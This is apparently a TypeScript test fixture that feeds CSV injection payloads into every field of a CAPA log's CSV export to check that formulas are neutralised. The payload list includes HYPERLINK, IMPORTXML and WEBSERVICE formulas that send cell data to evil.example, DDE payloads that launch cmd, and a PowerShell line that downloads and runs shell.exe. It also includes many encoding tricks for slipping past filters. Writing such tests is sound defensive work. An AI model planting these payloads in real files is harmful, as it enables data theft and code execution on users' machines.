// CSV injection payloads: OWASP's "CSV Injection" page and its sources (the DDE and
// HYPERLINK attacks, Google Sheets' IMPORTXML/IMAGE), the PayloadsAllTheThings list, and
// the cases that break a neutraliser that only looks at a cell's first character: leading
// spaces and other blanks, control characters, full-width and small forms, quotes, the
// user's own apostrophe, and separators or line breaks inside a cell that a spreadsheet
// splitting on another separator turns into the start of a cell.
import type { LogHeader, LogLine, LoggedAction, LoggedFinding } from '../../../../src/log/format/lines.js';

/** Each payload with what it tries. */
export const PAYLOADS: readonly { readonly text: string; readonly what: string }[] = [
  { text: '=1+1', what: 'plain formula' },
  { text: '+1+1', what: 'plus' },
  { text: '-1+1', what: 'minus' },
  { text: '@SUM(1+1)', what: 'at (Lotus)' },
  { text: '=SUM(1;1)', what: 'semicolon arguments' },
  { text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', what: 'HYPERLINK exfiltration' },
  { text: '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")', what: 'Google Sheets IMPORTXML' },
  { text: '=IMAGE("http://evil.example/pixel.png")', what: 'Google Sheets IMAGE' },
  { text: '=WEBSERVICE("http://evil.example/?"&A1)', what: 'WEBSERVICE' },
  { text: "=cmd|' /C calc'!A0", what: 'DDE' },
  { text: "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0", what: 'DDE powershell' },
  { text: "@SUM(1+9)*cmd|' /C calc'!A0", what: 'DDE behind @SUM' },
  { text: "+cmd|' /C calc'!A0", what: 'DDE with plus' },
  { text: "-2+3+cmd|' /C calc'!A0", what: 'DDE with minus' },
  { text: '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', what: 'DDE function' },
  { text: "=rundll32|'URL.dll,OpenURL calc.exe'!A", what: 'rundll32 DDE (a comma inside)' },
  { text: '\t=1+1', what: 'leading tab' },
  { text: '\r=1+1', what: 'leading carriage return' },
  { text: '\n=1+1', what: 'leading line feed' },
  { text: '\0=1+1', what: 'leading NUL' },
  { text: ' =1+1', what: 'leading space' },
  { text: '   +1+1', what: 'leading spaces, plus' },
  { text: '\u00A0=1+1', what: 'leading no-break space' },
  { text: '\u3000=1+1', what: 'leading ideographic space' },
  { text: '\uFF1D1+1', what: 'full-width equals' },
  { text: '\uFF0B1+1', what: 'full-width plus' },
  { text: '\uFF0D1+1', what: 'full-width minus' },
  { text: '\uFF20SUM(1+1)', what: 'full-width at' },
  { text: '\uFE661+1', what: 'small equals' },
  { text: '"=1+1"', what: 'quoted formula' },
  { text: '""=1+1', what: 'doubled quotes first' },
  { text: "'=1+1", what: "the user's own apostrophe before =" },
  { text: "'-1", what: "the user's own apostrophe before -" },
  { text: "''=1+1", what: 'two apostrophes' },
  { text: ";=1+1;", what: 'between semicolons' },
  { text: ',=1+1,', what: 'between commas' },
  { text: 'x;=1+1;y', what: 'inside, after a semicolon' },
  { text: 'x,=1+1,y', what: 'inside, after a comma' },
  { text: 'x\t=1+1\ty', what: 'inside, after a tab' },
  { text: 'x; =1+1', what: 'after a semicolon and a space' },
  { text: 'x;"=1+1"', what: 'after a semicolon, quoted' },
  { text: 'x";=1+1', what: 'a quote, a semicolon, a formula' },
  { text: 'x",=1+1', what: 'a quote, a comma, a formula' },
  { text: 'x\n=1+1', what: 'on its own line' },
  { text: 'first line\r\n-1+1', what: 'on a CRLF line' },
  { text: "x;'=1+1", what: "the user's own apostrophe after a semicolon" },
  { text: ';;=1+1', what: 'after two semicolons' },
  { text: '=1+1;=2+2', what: 'two formulas, semicolon' },
  { text: '=1+1,=2+2', what: 'two formulas, comma' },
  { text: ' "=1+1', what: 'a space and a quote first' },
  { text: '\u00A0\t=1+1', what: 'a no-break space and a tab first' },
  { text: 'x\t \t+1+1', what: 'after tab, space, tab' },
  { text: "x\n'-1", what: "the user's own apostrophe on its own line" },
  { text: '-', what: 'a lone minus' },
  { text: 'Leavers kept active accounts for weeks', what: 'an ordinary title (control)' },
];

/**
 * A log whose findings carry the payloads: for each payload, a copy of a finding that went
 * through the whole lifecycle (correction, root cause, a corrective action, reviews,
 * closure) and of its action, with the payload in every text the CSV export writes. Parsed
 * lines are not checked against the record schemas, so a payload with leading blanks or
 * control characters reaches the export as it is: the export must be safe for any text.
 */
export function payloadLines(lines: readonly LogLine[], findingId: string): LogLine[] {
  const header = lines.find((line): line is LogHeader => line.type === 'capa-log')!;
  const base = lines.find((line): line is LoggedFinding => line.type === 'finding' && line.finding.id === findingId)!;
  const baseAction = lines.find((line): line is LoggedAction => line.type === 'action' && line.action.id === base.finding.correctiveActionIds[0])!;
  const out: LogLine[] = [header];
  PAYLOADS.forEach(({ text }, index) => {
    const finding = structuredClone(base.finding);
    const action = structuredClone(baseAction.action);
    const person = { id: `p-${index}`, name: text };
    finding.id = `pf-${String(index).padStart(3, '0')}`;
    finding.reference = `NC-2026-${String(index + 1).padStart(4, '0')}`;
    Object.assign(finding, { title: text, description: text, observedEvidence: text, owner: person, raisedBy: person });
    finding.source = { ...finding.source, reference: text };
    finding.requirement = { ...finding.requirement, title: text } as typeof finding.requirement;
    finding.affected = { process: text, asset: text };
    if (finding.correction?.kind === 'performed') finding.correction = { ...finding.correction, description: text };
    if (finding.rootCause !== null) finding.rootCause = { ...finding.rootCause, statement: text };
    finding.effectivenessReviews = finding.effectivenessReviews.map((review) => ({ ...review, method: text, reviewer: person }) as typeof review);
    if (finding.closure !== null) finding.closure = { ...finding.closure, evidence: finding.closure.evidence.map((e) => ({ ...e, title: text, location: text })) };
    if (finding.planApproval !== null) finding.planApproval = { ...finding.planApproval, approvedBy: person, role: text };
    action.id = `pa-${String(index).padStart(3, '0')}`;
    Object.assign(action, { description: text, measurableOutcome: text, owner: person });
    finding.correctiveActionIds = [action.id];
    out.push({ ...base, finding }, { ...baseAction, action });
  });
  return out;
}
